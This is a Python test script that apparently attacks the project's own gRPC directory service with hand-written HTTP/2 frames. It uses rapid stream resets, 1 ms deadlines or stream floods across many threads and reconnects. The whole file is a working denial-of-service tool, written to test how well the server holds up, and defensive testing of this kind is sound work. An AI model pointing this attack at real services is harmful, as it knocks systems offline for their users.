"""The attacker from the network: one agency's certificate, raw HTTP/2 frames, as many calls as the machine makes.

It runs as a process of its own and prints what it did as one line of JSON. gRPC's own client would hold it back, and
neither reset nor reconnect as an attacker does; so frames are written by hand (`http2.py`).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import select
import ssl
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests.attack import http2

BATCH = 50
"""Streams that one write opens."""
SECONDS = 10.0
"""Longest wait for the server to take bytes or to shake hands."""


@dataclass(slots=True)
class Counts:
    """What was done and what came back; threads share it."""

    lock: threading.Lock = field(default_factory=threading.Lock)
    seen: Counter[str] = field(default_factory=Counter)

    def add(self, name: str, count: int = 1) -> None:
        """Count."""
        with self.lock:
            self.seen[name] += count


class Pace:
    """Keeps all connections together to so many streams a second."""

    def __init__(self, per_second: float) -> None:
        self._per_second = per_second
        self._lock = threading.Lock()
        self._next = time.monotonic()

    def wait(self, streams: int) -> None:
        """Wait until these streams were allowed."""
        if self._per_second:
            with self._lock:
                self._next = max(self._next, time.monotonic() - 0.1) + streams / self._per_second
                wait = self._next - time.monotonic()
            if wait > 0:
                time.sleep(wait)


@dataclass(frozen=True, slots=True)
class Attack:
    """What one connection does.

    Attributes:
        mode: ``resets``: each stream is reset at once. ``deadlines``: each has a deadline of 1 ms. ``flood``: neither,
            but at most ``in_flight`` at a time.
        pace: how fast all connections are together.
        reconnect: streams after which it connects anew; 0: never.
    """

    address: tuple[str, int]
    context: ssl.SSLContext
    path: str
    mode: str
    reconnect: int
    in_flight: int
    pace: Pace
    end: float
    counts: Counts

    def run(self) -> None:
        """Attack until the time is over."""
        while time.monotonic() < self.end:
            try:
                self._connection()
            except OSError as error:
                self.counts.add(f"connection {type(error).__name__}")
                time.sleep(0.01)

    def _connection(self) -> None:
        with http2.connect(self.address, self.context, seconds=SECONDS) as secure:
            self.counts.add("connections")
            secure.sendall(http2.begin())
            _Connection(self, secure).run()


class _Connection:
    """One connection, and what the server says on it."""

    def __init__(self, attack: Attack, secure: ssl.SSLSocket) -> None:
        self._attack = attack
        self._socket = secure
        self._rest = b""
        self._open = 0
        self._goes_away = False

    def run(self) -> None:
        """Open streams until it is time to connect anew."""
        attack = self._attack
        timeout = "1m" if attack.mode == "deadlines" else ""
        block = http2.headers(attack.path, timeout)
        made = http2.reset_call if attack.mode == "resets" else http2.call
        stream, opened = 1, 0
        while (
            not self._goes_away
            and time.monotonic() < attack.end
            and (not attack.reconnect or opened < attack.reconnect)
        ):
            room = BATCH if attack.mode != "flood" else min(BATCH, attack.in_flight - self._open)
            if room:
                self._socket.sendall(b"".join(made(stream + 2 * nth, block) for nth in range(room)))
                stream, opened = stream + 2 * room, opened + room
                self._open += room
                attack.counts.add("streams", room)
                attack.pace.wait(room)
            self._hear(0.0 if room else 0.05)

    def _hear(self, wait: float) -> None:
        while self._socket.pending() or select.select([self._socket], [], [], wait)[0]:
            data = self._socket.recv(1 << 16)
            if not data:
                raise ConnectionResetError
            self._frames(self._rest + data)
            wait = 0.0

    def _frames(self, data: bytes) -> None:
        at = 0
        ended = 0
        while len(data) - at >= 9:
            size = int.from_bytes(data[at : at + 3])
            if len(data) - at < 9 + size:
                break
            kind, flags = data[at + 3], data[at + 4]
            if kind == http2.SETTINGS and not flags & http2.ACK:
                self._socket.sendall(http2.frame(http2.SETTINGS, http2.ACK, 0, b""))
            elif kind == http2.PING and not flags & http2.ACK:
                self._socket.sendall(http2.frame(http2.PING, http2.ACK, 0, data[at + 9 : at + 9 + size]))
            elif kind == http2.GOAWAY:
                self._goes_away = True
                self._attack.counts.add("told to go away")
            elif kind == http2.RST_STREAM or (kind == http2.HEADERS and flags & http2.END_STREAM):
                ended += 1
            at += 9 + size
        self._rest = data[at:]
        self._open -= ended
        self._attack.counts.add("ended by the server", ended)


def main() -> None:
    """Parse the command line, attack, print."""
    arguments = _parser().parse_args()
    context = http2.context(arguments.ca, arguments.certificate, arguments.key)
    host, _, port = arguments.address.rpartition(":")
    counts = Counts()
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    began = time.monotonic()
    attack = Attack(
        (host.strip("[]"), int(port)),
        context,
        arguments.path,
        arguments.mode,
        arguments.reconnect,
        arguments.in_flight,
        Pace(arguments.per_second),
        began + arguments.seconds,
        counts,
    )
    threads = [threading.Thread(target=attack.run, daemon=True) for _ in range(arguments.connections)]
    for thread in threads:
        thread.start()
    with contextlib.suppress(KeyboardInterrupt):
        for thread in threads:
            thread.join()
    json.dump({**counts.seen, "seconds": time.monotonic() - began}, sys.stdout)


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--address", required=True)
    parser.add_argument("--ca", type=Path, required=True)
    parser.add_argument("--certificate", type=Path, required=True)
    parser.add_argument("--key", type=Path, required=True)
    parser.add_argument("--path", default="/nsor.v1.DirectoryService/ListAgencies")
    parser.add_argument("--mode", choices=("resets", "deadlines", "flood"), required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--reconnect", type=int, default=600, help="streams per connection; 0: it lasts")
    parser.add_argument("--in-flight", type=int, default=400, help="of the flood, on each connection")
    parser.add_argument(
        "--per-second", type=float, default=0.0, help="streams of all connections; 0: as many as it can"
    )
    parser.add_argument("--seconds", type=float, required=True)
    return parser


if __name__ == "__main__":
    main()
